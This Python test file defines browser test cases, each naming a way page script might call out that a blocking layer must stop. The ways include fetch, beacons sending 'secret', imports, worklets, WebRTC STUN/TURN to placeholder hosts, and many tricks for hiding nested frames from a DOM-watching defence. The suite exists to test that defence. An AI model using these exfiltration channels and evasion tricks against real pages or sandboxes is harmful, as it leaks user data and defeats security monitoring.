"""Attacks that call out from script."""

from tests.browser.wall.case import Case, Line

ICE = """
const peer = new RTCPeerConnection({ iceServers: [$SERVER] });
peer.createDataChannel('x');
await peer.setLocalDescription(await peer.createOffer());
await wait(4000);
"""
NO = "the browser does not have it"


def call(name, must_not, script, **rest):
    return Case(name, Line.CONNECTIONS, must_not, script, **rest)


def ice(name, must_not, server, before="", **rest):
    script = before + ICE.replace("$SERVER", server)
    return Case(name, Line.WEBRTC, must_not, script, **rest)


PEER = """
const host = document.createElement('div');
const text = `<script>const peer = new RTCPeerConnection({
  iceServers: [{ urls: 'stun:127.0.0.1:$UDP' }] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));</scr` + 'ipt>';
const inner = document.createElement('iframe');
inner.srcdoc = text;
"""
SHOW = "document.body.append(inner); await wait(4000);"


def nested(name, what, script):
    must_not = f"send STUN packets from {what}"
    return Case(f"stun-{name}", Line.WEBRTC, must_not, PEER + script, alone=True)


TURN = "username: 'u', credential: 'p'"

CASES = (
    call("fetch", "fetch", "await fetch('$URL/fetch');"),
    call("fetch-blind", "fetch without reading", "await fetch('$URL/f', { mode: 'no-cors' });"),
    call("fetch-host", "fetch from another host and port", "await fetch('$OTHER/f');"),
    call("fetch-v6", "fetch by IPv6", "await fetch('$SIX/f');"),
    call("fetch-name", "fetch by another name", "await fetch('$NAMED/f');"),
    call("fetch-keepalive", "fetch beyond its own end", "fetch('$URL/f', { keepalive: true });"),
    call(
        "fetch-later",
        "leave a request behind",
        "fetchLater('$URL/later', { activateAfter: 0 }); await wait(500);",
        cannot_show={"firefox": NO},
    ),
    call(
        "xhr",
        "ask by XMLHttpRequest",
        "const x = new XMLHttpRequest(); x.open('GET', '$URL/x'); x.send();",
    ),
    call(
        "xhr-sync",
        "ask by a synchronous XMLHttpRequest",
        "const x = new XMLHttpRequest(); x.open('GET', '$URL/x', false); x.send();",
    ),
    call("websocket", "open a WebSocket", "new WebSocket('$WS/socket'); await wait(300);"),
    call(
        "websocket-stream",
        "open a WebSocketStream",
        "await new WebSocketStream('$WS/socket').opened;",
        cannot_show={"firefox": NO},
    ),
    call(
        "event-source", "open an EventSource", "new EventSource('$URL/a.events'); await wait(300);"
    ),
    call("beacon", "send a beacon", "navigator.sendBeacon('$URL/beacon', 'secret');"),
    call(
        "web-transport",
        "open a WebTransport",
        "await new WebTransport('https://127.0.0.1:$UDP/x').ready;",
    ),
    call("import", "import a module", "await import('$URL/a.js');"),
    call("import-json", "import data", "await import('$URL/a.json', { with: { type: 'json' } });"),
    call(
        "worklet",
        "load a worklet",
        "await new AudioContext().audioWorklet.addModule('$URL/a.js');",
    ),
    call(
        "paint-worklet",
        "load a paint worklet",
        "await CSS.paintWorklet.addModule('$URL/a.js');",
        cannot_show={"firefox": NO},
    ),
    call(
        "wasm-stream",
        "compile from elsewhere",
        "await WebAssembly.compileStreaming(fetch('$URL/a.wasm'));",
    ),
    call("audio", "load a sound", "new Audio('$URL/a.mp3').load(); await wait(300);"),
    call("image-object", "load a picture", "new Image().src = '$URL/a.png?secret';"),
    call("font-face", "load a font", "await new FontFace('x', 'url($URL/a.woff2)').load();"),
    call(
        "media-artwork",
        "load artwork for the system's player",
        """
        navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: '$URL/a.png' }] });
        await wait(300);
        """,
        cannot_show={
            "chromium": "nothing plays, so nothing is fetched",
        },
    ),
    call(
        "xslt",
        "load by a style sheet for XML",
        """
        const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
          <xsl:template match="/"><x><xsl:copy-of select="document('$URL/a.svg')"/></x></xsl:template>
          </xsl:stylesheet>`;
        const parse = (text) => new DOMParser().parseFromString(text, 'text/xml');
        const processor = new XSLTProcessor();
        processor.importStylesheet(parse(sheet));
        processor.transformToFragment(parse('<a/>'), document);
        """,
        cannot_show={
            "chromium": "only from the same origin",
            "firefox": "only from the same origin",
        },
    ),
    call(
        "credential",
        "ask an identity provider",
        """
        await navigator.credentials.get({ mediation: 'optional', identity: { mode: 'passive',
          providers: [{ configURL: '$URL/a.json', clientId: '1', nonce: 'n' }] } });
        """,
        cannot_show={"firefox": NO},
    ),
    call(
        "shared-storage",
        "load a shared-storage worklet",
        "await sharedStorage.worklet.addModule('$URL/a.js');",
        cannot_show={"chromium": "it needs an enrolled site", "firefox": NO},
    ),
    call(
        "report",
        "have the browser report for it",
        """
        document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="Content-Security-Policy"
          content="img-src 'none'; report-uri $URL/report">`);
        new Image().src = 'data:image/png,';
        await wait(300);
        """,
        cannot_show={
            "chromium": "a policy in the document can't report",
            "firefox": "a policy in the document can't report",
        },
    ),
    ice("stun", "send STUN packets", "{ urls: 'stun:127.0.0.1:$UDP' }"),
    ice("turn-udp", "send TURN packets", "{ urls: 'turn:127.0.0.1:$UDP', " + TURN + " }"),
    ice(
        "turn-tcp",
        "open a TURN connection",
        "{ urls: 'turn:127.0.0.1:$TCP?transport=tcp', " + TURN + " }",
    ),
    ice(
        "stun-nested",
        "send STUN packets from a nested frame's own constructor",
        "{ urls: 'stun:127.0.0.1:$UDP' }",
        """
        const inner = document.createElement('iframe');
        document.body.append(inner);
        const RTCPeerConnection = inner.contentWindow.RTCPeerConnection;
        """,
    ),
    nested("srcdoc", "a nested document", SHOW),
    nested(
        "elements",
        "a nested document while nothing is an element",
        "window.Element = window.DocumentFragment = function () {};" + SHOW,
    ),
    nested(
        "instance",
        "a nested document while nothing is an instance",
        "Object.defineProperty(Element, Symbol.hasInstance, { value: () => false });" + SHOW,
    ),
    nested(
        "iterator",
        "a nested document while nothing can be gone through",
        "Array.prototype[Symbol.iterator] = function* () {};"
        "NodeList.prototype[Symbol.iterator] = function* () {};"
        "NodeList.prototype.forEach = Array.prototype.forEach = () => {};" + SHOW,
    ),
    nested(
        "getters",
        "a nested document while nobody learns what was added",
        "for (const [owner, name] of [[MutationRecord, 'addedNodes'], [NodeList, 'length'],"
        " [Node, 'nodeType']])"
        " Object.defineProperty(owner.prototype, name, { get: () => undefined });" + SHOW,
    ),
    nested(
        "methods",
        "a nested document while nothing can be found or removed",
        "Reflect.apply = Function.prototype.apply = Function.prototype.call = () => {};"
        "for (const name of ['matches', 'remove', 'querySelectorAll'])"
        " Element.prototype[name] = () => [];" + SHOW,
    ),
    nested(
        "clonable",
        "a nested document in the copy of a shadow tree",
        "const shadow = host.attachShadow({ mode: 'open', clonable: true });"
        "shadow.append(inner); document.body.append(host.cloneNode(true)); await wait(4000);",
    ),
    nested(
        "clonable-inherited",
        "a nested document in the copy of a shadow tree that never asked to be copied",
        "Object.prototype.clonable = true; const shadow = host.attachShadow({ mode: 'closed' });"
        "delete Object.prototype.clonable;"
        "shadow.append(inner); document.body.append(host.cloneNode(true)); await wait(4000);",
    ),
    nested(
        "options",
        "a nested document in a shadow tree that can't be observed",
        "Object.prototype.attributeFilter = 1;"
        "try { host.attachShadow({ mode: 'open' }); } catch {}"
        "delete Object.prototype.attributeFilter;"
        "host.shadowRoot.append(inner); document.body.append(host); await wait(4000);",
    ),
    nested(
        "shadow-html",
        "a nested document in a shadow tree made of text",
        "host.setHTMLUnsafe('<p><template shadowrootmode=open>.</template>');"
        "document.body.append(host); host.firstChild.shadowRoot.append(inner); await wait(4000);",
    ),
    nested(
        "write",
        "a nested document in a shadow tree written in two parts",
        "document.write('<p id=written><template shadow');"
        "document.write('rootmode=open>.</template></p>');"
        "document.getElementById('written').shadowRoot.append(inner); await wait(4000);",
    ),
    nested(
        "write-arguments",
        "a nested document in a shadow tree written as two words",
        "document.write('<p id=written><template shadow', 'rootmode=open>.</template></p>');"
        "document.getElementById('written').shadowRoot.append(inner); await wait(4000);",
    ),
    Case(
        "stun-write-rest",
        Line.WEBRTC,
        "send STUN packets from a nested document in a shadow tree that it begins to write",
        PEER + "document.getElementById('rest').shadowRoot.append(inner); await wait(4000);",
        "<p id=rest><script>document.write('<template shadow')</script>rootmode=open>.</template></p>",
        alone=True,
    ),
    nested(
        "open",
        "a nested document in a document opened anew",
        "document.open(); document.write('<p>new'); document.close();" + SHOW,
    ),
    nested(
        "later",
        "an empty nested document that is filled later",
        "document.body.append(inner); inner.removeAttribute('srcdoc'); await wait(300);"
        "inner.srcdoc = text; await wait(4000);",
    ),
    nested(
        "again",
        "a nested document that comes back whenever it is taken out",
        "class Back extends HTMLElement { disconnectedCallback() {"
        " if (Back.count++ < 20) document.body.append(this, inner); } }"
        "Back.count = 0; customElements.define('come-back', Back);"
        "const back = document.createElement('come-back'); back.append(inner);" + SHOW,
    ),
    nested(
        "fragment",
        "a nested document from a parsed fragment",
        "document.body.append(document.createRange().createContextualFragment(inner.outerHTML));"
        "await wait(4000);",
    ),
    nested(
        "template",
        "a nested document from the copy of a template",
        "const template = document.createElement('template'); template.innerHTML = inner.outerHTML;"
        "document.body.append(document.importNode(template.content, true)); await wait(4000);",
    ),
    nested(
        "adopted",
        "a nested document taken over from another document",
        "const other = new DOMParser().parseFromString(inner.outerHTML, 'text/html');"
        "document.body.append(document.adoptNode(other.querySelector('iframe'))); await wait(4000);",
    ),
    nested(
        "xslt",
        "a nested document made by a style sheet for XML",
        """
        const sheet = `<xsl:stylesheet version="1.0"
          xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
          <iframe><xsl:attribute name="srcdoc"><xsl:value-of select="."/></xsl:attribute></iframe>
          </xsl:template></xsl:stylesheet>`;
        const parse = (text) => new DOMParser().parseFromString(text, 'text/xml');
        const source = parse('<a/>'); source.documentElement.textContent = text;
        const processor = new XSLTProcessor(); processor.importStylesheet(parse(sheet));
        document.body.append(processor.transformToFragment(source, document)); await wait(4000);
        """,
    ),
    nested(
        "frameset",
        "a nested document in a frameset",
        "const set = document.createElement('frameset'); const frame = document.createElement('frame');"
        "frame.src = 'javascript:' + JSON.stringify(text); set.append(frame);"
        "document.documentElement.append(set); await wait(4000);",
    ),
    nested(
        "object",
        "a nested document in an object",
        "const made = document.createElement('object'); made.type = 'text/html';"
        "made.data = URL.createObjectURL(new Blob([text], { type: 'text/html' }));"
        "document.body.append(made); await wait(4000);",
    ),
    nested(
        "used",
        "a nested document in the copy of a drawing",
        "document.body.insertAdjacentHTML('beforeend', '<svg><defs><g id=kept><foreignObject width=9"
        ' height=9></foreignObject></g></defs><use href="#kept"/></svg>\');'
        "document.querySelector('foreignObject').append(inner); await wait(4000);",
    ),
    Case(
        "stun-candidate",
        Line.WEBRTC,
        "send packets to a peer it invents",
        """
        const peer = new RTCPeerConnection();
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        const other = new RTCPeerConnection();
        await other.setRemoteDescription(peer.localDescription);
        await other.setLocalDescription(await other.createAnswer());
        await peer.setRemoteDescription(other.localDescription);
        await peer.addIceCandidate({ sdpMid: '0', sdpMLineIndex: 0,
          candidate: 'candidate:1 1 udp 2113937151 127.0.0.1 $UDP typ host' });
        await wait(4000);
        """,
        cannot_show={"firefox": "it does not try an address of loopback"},
    ),
)
